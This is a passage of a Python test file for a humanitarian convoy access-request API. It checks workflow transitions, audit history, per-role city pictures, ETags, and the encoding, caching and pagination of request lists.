    # rest as of the start of the taskforce's day, so from tomorrow (observers: its count only).
    picture = client.get(f"/v1/cities/{city}/access", headers=coordinator).json()
    assert picture["convoys"]["upcoming_count"] == 1 and picture["convoys"]["upcoming"][0]["id"] == request_id
    assert picture["convoys"]["upcoming"][0]["organization_name"] == "WFP"
    for caller in ("partner", "observer", "partner_other"):
        assert client.get(f"/v1/cities/{city}/access", headers=cast[caller]).json()["convoys"]["upcoming_count"] == 0
    tomorrow = {"as_of": (datetime.now(UTC) + timedelta(days=1)).isoformat()}  # never later than the start of today
    assert (
        client.get(f"/v1/cities/{city}/access", params=tomorrow, headers=partner).json()["convoys"]["upcoming_count"]
        == 0
    )
    assert _do(client, partner, request_id, "dispatch", {"note": "Left at dawn"}).json()["status"] == "dispatched"
    inconsistent = _do(
        client,
        partner,
        request_id,
        "complete",
        {
            "outcome": "delivered",
            "lines": [
                {"line_id": food, "delivered_quantity": 4000},
                {
                    "line_id": kits,
                    "delivered_quantity": 0,
                    "removed_quantity": 15,
                    "removed_at": "Ramouseh",
                    "removal_reason": "Removed by the checkpoint",
                },
            ],
        },
    )
    assert inconsistent.status_code == 422 and inconsistent.json()["errors"][0]["field"] == "body.outcome"
    no_where = _do(
        client,
        partner,
        request_id,
        "complete",
        {
            "outcome": "partially_delivered",
            "lines": [
                {"line_id": food, "delivered_quantity": 4000},
                {"line_id": kits, "delivered_quantity": 0, "removed_quantity": 15},
            ],
        },
    )
    assert no_where.status_code == 422
    done = _do(
        client,
        partner,
        request_id,
        "complete",
        {
            "outcome": "partially_delivered",
            "people_reached": 15000,
            "lines": [
                {"line_id": food, "delivered_quantity": 4000},
                {
                    "line_id": kits,
                    "delivered_quantity": 0,
                    "removed_quantity": 15,
                    "removed_at": "Ramouseh checkpoint",
                    "removal_reason": "Surgical supplies removed by the checkpoint",
                },
            ],
        },
    )
    assert done.status_code == 200, done.text
    body = done.json()
    assert body["status"] == "partially_delivered" and body["people_reached"] == 15000
    lines = {line["item"]: line for line in body["cargo_lines"]}
    assert lines["Surgical kits"] == {
        **lines["Surgical kits"],
        "quantity": 20,
        "approved_quantity": 15,
        "delivered_quantity": 0,
        "removed_quantity": 15,
        "removed_at": "Ramouseh checkpoint",
    }
    assert body["allowed_actions"] == []
    history = client.get(f"/v1/access-requests/{request_id}/history", headers=partner).json()
    assert [(e["action"], e["from_state"], e["to_state"]) for e in history] == [
        ("created", None, "draft"),
        ("submitted", "draft", "submitted"),
        ("changes_requested", "submitted", "changes_requested"),
        ("edited", "changes_requested", "changes_requested"),
        ("submitted", "changes_requested", "submitted"),
        ("approved", "submitted", "approved"),
        ("dispatched", "approved", "dispatched"),
        ("completed", "dispatched", "partially_delivered"),
    ]
    assert all(e["occurred_at"] for e in history)
    assert history[5]["changes"]["reduced_lines"][kits] == {"item": "Surgical kits", "requested": 20, "approved": 15}
    assert history[-1]["changes"]["lines"][kits]["removal_reason"] == "Surgical supplies removed by the checkpoint"
    # Approval is not delivery: the city shows the last delivery, and no upcoming convoy.
    picture = client.get(f"/v1/cities/{city}/access", headers=cast["coordinator"]).json()
    assert picture["convoys"]["upcoming_count"] == 0
    assert (
        picture["last_delivery"]["outcome"] == "partially_delivered"
        and picture["last_delivery"]["access_request_id"] == request_id
    )
    assert picture["days_since_last_delivery"] == 0
    # Reported today: the rest see it from tomorrow, by its day (tests/test_convoy_secrecy.py).
    assert client.get(f"/v1/cities/{city}/access", headers=cast["observer"]).json()["last_delivery"] is None


def test_coordinators_may_cancel_and_record_outcomes(client, city, cast, session):
    created = _create(client, cast["partner"], city)
    assert (
        _do(client, cast["coordinator"], created["id"], "cancel", {"reason": "Security"}).json()["status"]
        == "cancelled"
    )
    events = (
        session.execute(
            select(AuditEvent.reason).where(AuditEvent.entity_id == created["id"], AuditEvent.action == "cancelled")
        )
        .scalars()
        .all()
    )
    assert events == ["Security"]


def test_picture_etags_move_only_when_a_convoy_could_show(client, cast, city):
    """Drafts, submissions and reviews never show in a picture, so dashboards polling with
    If-None-Match keep their 304s while partners work; an approval, a dispatch, a
    completion or the cancellation of an approved convoy moves the ETag."""
    coordinator, partner = cast["coordinator"], cast["partner"]

    def etags():
        picture = client.get(f"/v1/cities/{city}/access", headers=coordinator)
        snapshot = client.get("/v1/access-snapshot", headers=coordinator)
        return picture.headers["etag"], snapshot.headers["etag"], picture.json()

    before = etags()
    created = _create(client, partner, city)
    assert _do(client, partner, created["id"], "submit").status_code == 200
    assert (
        _do(client, coordinator, created["id"], "request-changes", {"reason": "Name the checkpoint"}).status_code == 200
    )
    assert _do(client, partner, created["id"], "submit").status_code == 200
    unchanged = etags()
    assert unchanged[:2] == before[:2]
    picture_etag = unchanged[0]
    assert (
        client.get(f"/v1/cities/{city}/access", headers={**coordinator, "If-None-Match": picture_etag}).status_code
        == 304
    )

    assert _do(client, coordinator, created["id"], "approve", {}).status_code == 200
    approved = etags()
    assert approved[0] != before[0] and approved[1] != before[1]
    assert approved[2]["convoys"]["upcoming_count"] == before[2]["convoys"]["upcoming_count"] + 1

    assert _do(client, partner, created["id"], "cancel", {"reason": "Road closed"}).status_code == 200
    cancelled = etags()
    assert cancelled[0] != approved[0]
    assert cancelled[2]["convoys"]["upcoming_count"] == before[2]["convoys"]["upcoming_count"]


def test_lists_encode_rows_exactly_as_the_models_would(world, client, city, cast, frozen_clock, monkeypatch, session):
    """Lists encode database rows with orjson (schemas.access_request_page_json), not through
    AccessRequestRead; the bytes must be the models' for every kind of value a request holds:
    each state's timestamps, reduced, delivered and removed quantities, odd floats, text with
    control characters, quotes and other scripts, an origin city, an overdue review, cursors."""
    import api.routers.access_requests as router

    partner, coordinator = cast["partner"], cast["coordinator"]
    text = 'Line 1\nLine 2\t\x01\x1f\x7f \u2028 "quoted" \\ back, دوما 🚚'
    lines = [
        {"sector": "food", "item": "Flour", "quantity": 0.1, "unit": "MT"},
        {"sector": "health", "item": text[:200], "quantity": 1e-7, "unit": "kits"},
        {"sector": "wash", "item": "Water", "quantity": 999999999.99, "unit": "l"},
    ]
    draft = _create(
        client,
        partner,
        city,
        origin_city_id=city,
        origin_name=None,
        notes=text,
        cargo_lines=lines,
        contact={"name": 'Léa "Lead"', "phone": "+963\t000", "email": "lead@example.org"},
    )
    overdue = _create(client, partner, city)
    assert _do(client, partner, overdue["id"], "submit").status_code == 200
    approved = _create(client, partner, city, cargo_lines=lines)
    assert _do(client, partner, approved["id"], "submit").status_code == 200
    line_ids = [line["id"] for line in approved["cargo_lines"]]
    assert (
        _do(
            client,
            coordinator,
            approved["id"],
            "approve",
            {"lines": [{"line_id": line_ids[2], "approved_quantity": 12345.678}], "note": text},
        ).status_code
        == 200
    )
    done = _create(client, partner, city, cargo_lines=lines[:2])
    done_lines = [line["id"] for line in done["cargo_lines"]]
    for action, body, headers in (
        ("submit", None, partner),
        ("approve", None, coordinator),
        ("dispatch", None, partner),
        (
            "complete",
            {
                "outcome": "partially_delivered",
                "people_reached": 15000,
                "lines": [
                    {"line_id": done_lines[0], "delivered_quantity": 0.05},
                    {
                        "line_id": done_lines[1],
                        "delivered_quantity": 0,
                        "removed_quantity": 1e-7,
                        "removed_at": text[:200],
                        "removal_reason": text,
                    },
                ],
            },
            partner,
        ),
    ):
        assert _do(client, headers, done["id"], action, body).status_code == 200, action
    cancelled = _create(client, partner, city)
    assert _do(client, coordinator, cancelled["id"], "cancel", {"reason": text}).status_code == 200
    frozen_clock.advance(days=12)  # the submitted one is past its review deadline now
    # (the clock moved past the first tokens' lifetime: sign in again)
    wfp = session.get(Organization, uuid.UUID(draft["organization_id"]))
    callers = {
        "partner": world.headers(world.user(Role.partner, wfp)),
        "coordinator": world.headers(world.user(Role.coordinator)),
    }

    def both(headers, params):
        """The page encoded from rows just read, then from the requests kept (routers._page_json)."""
        client.app.state.listed_requests = BodyCache(size=1000)
        fast = client.get("/v1/access-requests", params=params, headers=headers)
        kept = client.get("/v1/access-requests", params=params, headers=headers)
        assert len(client.app.state.listed_requests) == len(fast.json()["items"])
        with monkeypatch.context() as patched:
            patched.setattr(router, "access_request_page_json", lambda *_: None)
            models = client.get("/v1/access-requests", params=params, headers=headers)
        assert fast.status_code == kept.status_code == models.status_code == 200
        assert kept.content == fast.content
        return fast, models

    seen = set()
    for headers in callers.values():
        for params in ({}, {"limit": 2}, {"sort": "departure", "order": "desc"}):
            fast, models = both(headers, params)
            assert fast.content == models.content
            while fast.json()["next_cursor"]:
                seen.update(item["status"] for item in fast.json()["items"])
                fast, models = both(headers, {**params, "cursor": fast.json()["next_cursor"]})
                assert fast.content == models.content
            seen.update(item["status"] for item in fast.json()["items"])
    assert seen >= {"draft", "submitted", "approved", "partially_delivered", "cancelled"}
    listed = {item["id"]: item for item in both(callers["coordinator"], {})[0].json()["items"]}
    assert listed[overdue["id"]]["overdue"] is True and listed[draft["id"]]["notes"] == text
    assert listed[done["id"]]["cargo_lines"][1]["removed_quantity"] == 1e-7


def test_every_path_shows_a_request_from_one_shape(client, city, cast, monkeypatch):
    """A create, a get, an edit, each action and a list by the models all hand the representation the
    request as read (AccessRequestRow) and its lines as CargoLineRow: no instance, no Core row."""
    import api.routers.access_requests as router
    from workflow.access_requests import AccessRequestRow, CargoLineRow

    shapes: set[type] = set()
    real_read, real_lines = router.access_request_read, router.request_lists.cargo_line_rows

    def recording_read(session, actor, request, lines=None, flags=None):  # noqa: ANN001, ANN202
        shapes.add(type(request))
        shapes.update(type(line) for line in lines or ())
        return real_read(session, actor, request, lines, flags)

    def recording_lines(session, ids):  # noqa: ANN001, ANN202
        found = real_lines(session, ids)
        shapes.update(type(line) for lines in found.values() for line in lines)
        return found

    monkeypatch.setattr(router, "access_request_read", recording_read)
    monkeypatch.setattr(router.request_lists, "cargo_line_rows", recording_lines)
    monkeypatch.setattr(router, "access_request_page_json", lambda *_: None)  # lists by the models too
    partner, coordinator = cast["partner"], cast["coordinator"]
    created = _create(client, partner, city)
    shown = [created, client.get(f"/v1/access-requests/{created['id']}", headers=partner).json()]
    edited = client.patch(
        f"/v1/access-requests/{created['id']}", json={"trucks": 12}, headers={**partner, "If-Match": "*"}
    )
    assert edited.status_code == 200, edited.text
    for action, headers, body in (
        ("submit", partner, None),
        ("request-changes", coordinator, {"reason": "Fewer trucks"}),
        ("submit", partner, None),
        ("approve", coordinator, None),
        ("dispatch", partner, None),
    ):
        response = _do(client, headers, created["id"], action, body)
        assert response.status_code == 200, (action, response.text)
        shown.append(response.json())
    [listed] = client.get("/v1/access-requests", headers=partner).json()["items"]
    assert shapes == {AccessRequestRow, CargoLineRow}
    assert listed == shown[-1] == client.get(f"/v1/access-requests/{created['id']}", headers=partner).json()


def test_a_value_orjson_cannot_encode_falls_back_to_the_models(client, city, cast, session):
    """No API input carries an integer beyond 64 bits, but a row written by other means may:
    the list is then encoded by the models, not a 500."""
    created = _create(client, cast["partner"], city)
    session.execute(
        AccessRequest.__table__.update()
        .where(AccessRequest.__table__.c.id == uuid.UUID(created["id"]))
        .values(contact={"name": "Lead", "reference": 10**30})
    )
    session.commit()
    response = client.get("/v1/access-requests", headers=cast["partner"])
    assert response.status_code == 200
    assert [item["contact"] for item in response.json()["items"]] == [{"name": "Lead", "reference": 10**30}]


def _counting_reads(monkeypatch) -> dict[str, list]:
    """The ids each list reads whole rows and cargo lines of (the requests it did not keep)."""
    import api.routers.access_requests as router

    reads: dict[str, list] = {"rows": [], "lines": []}
    for name, kind in (("access_request_rows", "rows"), ("cargo_line_rows", "lines")):
        real = getattr(router.request_lists, name)

        def counted(session, ids, real=real, kind=kind):  # noqa: ANN001, ANN202
            reads[kind].append(sorted(str(i) for i in ids))
            return real(session, ids)

        monkeypatch.setattr(router.request_lists, name, counted)
    return reads


def test_a_list_reads_and_encodes_a_request_once_per_version(client, city, cast, monkeypatch):
    """A listed request's encoding is kept by (id, version, updated_at): the next list reads neither its
    row nor its lines. Every change, to the request or to its cargo lines alone, moves its version, so a
    list shows it changed; the others stay kept."""
    partner, coordinator = cast["partner"], cast["coordinator"]
    first, second = _create(client, partner, city), _create(client, partner, city)
    reads = _counting_reads(monkeypatch)

    def listed():
        response = client.get("/v1/access-requests", headers=partner)
        assert response.status_code == 200, response.text
        return {item["id"]: item for item in response.json()["items"]}

    before = listed()
    assert reads == {"rows": [sorted([first["id"], second["id"]])], "lines": [sorted([first["id"], second["id"]])]}
    assert listed() == before and len(reads["rows"]) == 1  # kept: nothing read again
    # Cargo lines alone (an edit of a draft): the version moves with them.
    edited = client.patch(
        f"/v1/access-requests/{first['id']}",
        json={"cargo_lines": [{"sector": "wash", "item": "Water", "quantity": 5, "unit": "l"}]},
        headers={**partner, "If-Match": "*"},
    )
    assert edited.status_code == 200, edited.text
    after = listed()
    assert reads["rows"][-1] == reads["lines"][-1] == [first["id"]]
    assert [line["item"] for line in after[first["id"]]["cargo_lines"]] == ["Water"]
    assert (
        after[first["id"]]["version"] == before[first["id"]]["version"] + 1
        and after[second["id"]] == before[second["id"]]
    )
    # A review that changes the lines' approved quantities and the state.
    assert _do(client, partner, second["id"], "submit").status_code == 200
    line = second["cargo_lines"][1]["id"]
    assert (
        _do(
            client, coordinator, second["id"], "approve", {"lines": [{"line_id": line, "approved_quantity": 5}]}
        ).status_code
        == 200
    )
    approved = listed()[second["id"]]
    assert approved["status"] == "approved" and approved["cargo_lines"][1]["approved_quantity"] == 5
    assert approved == client.get(f"/v1/access-requests/{second['id']}", headers=partner).json()
    assert reads["rows"][-1] == [second["id"]] and len(reads["rows"]) == 3


def test_what_a_kept_request_shows_per_viewer_and_moment_is_computed_each_time(
    client, city, cast, frozen_clock, world, session
):
    """The allowed actions (per viewer) and overdue (per moment) are not kept with the encoding."""
    created = _create(client, cast["partner"], city)
    assert _do(client, cast["partner"], created["id"], "submit").status_code == 200

    def item(headers):
        response = client.get("/v1/access-requests", headers=headers)
        assert response.status_code == 200, response.text
        [listed] = [i for i in response.json()["items"] if i["id"] == created["id"]]
        return listed

    as_partner, as_coordinator = item(cast["partner"]), item(cast["coordinator"])
    assert len(client.app.state.listed_requests) == 1  # one version, kept once, shown to both
    assert as_partner["allowed_actions"] == ["cancel"]
    assert set(as_coordinator["allowed_actions"]) == {"request_changes", "approve", "deny", "cancel"}
    assert as_partner["overdue"] is False
    frozen_clock.advance(days=12)  # past the review deadline; the tokens expired with it
    wfp = session.get(Organization, uuid.UUID(created["organization_id"]))
    late = item(world.headers(world.user(Role.partner, wfp)))
    assert late["overdue"] is True and late["version"] == as_partner["version"]


def test_a_request_changed_between_its_listing_and_its_reading_is_shown_as_read_and_not_kept(
    client, city, cast, monkeypatch
):
    """On PostgreSQL each statement sees what was committed when it began, so a request may change
    between the list's statement and the reading of its row: it is shown as read (its computed fields
    too), and not kept under the version listed."""
    import api.routers.access_requests as router
    from workflow.access_requests import AccessRequestRow

    created = _create(client, cast["partner"], city)
    real = router.request_lists.access_request_rows

    def changed_meanwhile(session, ids):  # noqa: ANN001, ANN202
        return {
            i: AccessRequestRow(**{**row._asdict(), "version": row.version + 1, "status": "cancelled"})
            for i, row in real(session, ids).items()
        }

    monkeypatch.setattr(router.request_lists, "access_request_rows", changed_meanwhile)
    [shown] = client.get("/v1/access-requests", headers=cast["partner"]).json()["items"]
    assert shown["version"] == created["version"] + 1 and shown["status"] == "cancelled"
    assert shown["allowed_actions"] == []  # a cancelled request's, not the draft's
    assert len(client.app.state.listed_requests) == 0
    monkeypatch.setattr(router.request_lists, "access_request_rows", real)
    [shown] = client.get("/v1/access-requests", headers=cast["partner"]).json()["items"]
    assert shown == client.get(f"/v1/access-requests/{created['id']}", headers=cast["partner"]).json()
    assert len(client.app.state.listed_requests) == 1


def test_a_list_of_50_is_answered_without_stopping_for_the_collector(client, city, cast):
    """Everything a list of 50 builds is freed by reference counting once it is answered; a collection
    set off inside it (Python's default threshold, 700, is below what it holds at once) stops every
    request in flight, a full one for tens of ms (api.app.GC_THRESHOLDS)."""
    for _ in range(50):
        _create(client, cast["partner"], city)
    collections = []

    def record(phase: str, info: dict) -> None:
        if phase == "start":
            collections.append(info["generation"])

    gc.collect()  # counts start from zero, whatever the arranging left
    gc.callbacks.append(record)
    try:
        response = client.get("/v1/access-requests", params={"limit": 50}, headers=cast["partner"])
    finally:
        gc.callbacks.remove(record)
    assert response.status_code == 200, response.text
    assert len(response.json()["items"]) == 50
    assert collections == []


def test_a_read_and_a_write_each_take_one_thread_and_commit_in_it(client, city, cast, session, monkeypatch):
    """A plain-def endpoint commits its unit of work in its own thread (api.deps.UnitOfWorkRoute):
    one threadpool call per request, and what it answered is committed."""
    real = anyio.to_thread.run_sync
    calls = []

    async def counted(fn, *args, **kwargs):  # noqa: ANN001, ANN002, ANN003, ANN202
        calls.append(fn)
        return await real(fn, *args, **kwargs)

    monkeypatch.setattr(anyio.to_thread, "run_sync", counted)
    created = _create(client, cast["partner"], city)
    assert len(calls) == 1
    calls.clear()
    listed = client.get("/v1/access-requests", params={"limit": 1}, headers=cast["partner"])
    assert listed.status_code == 200 and len(calls) == 1
    assert session.get(AccessRequest, uuid.UUID(created["id"])).version == created["version"]


def test_pages_carry_a_link_to_the_next_one(world, client, city):
    """RFC 8288: the next page as a Link header, beside next_cursor, with the other parameters kept."""
    partner = world.headers(world.user(Role.partner))
    for _ in range(3):
        assert client.post("/v1/access-requests", json=_body(city), headers=partner).status_code == 201
    first = client.get("/v1/access-requests", params={"limit": 2, "status": "draft"}, headers=partner)
    cursor = first.json()["next_cursor"]
    assert first.headers["link"] == f'</v1/access-requests?limit=2&status=draft&cursor={cursor}>; rel="next"'
    target = first.headers["link"].split(">", 1)[0].lstrip("<")
    second = client.get(target, headers=partner)
    assert len(second.json()["items"]) == 1 and second.json()["next_cursor"] is None
    assert "link" not in second.headers  # the last page
    feed = client.get("/v1/events", headers=partner)
    assert feed.headers["link"] == f'</v1/events?after={feed.json()["next_cursor"]}>; rel="next"'
    assert "link" not in client.get("/v1/me", headers=partner).headers
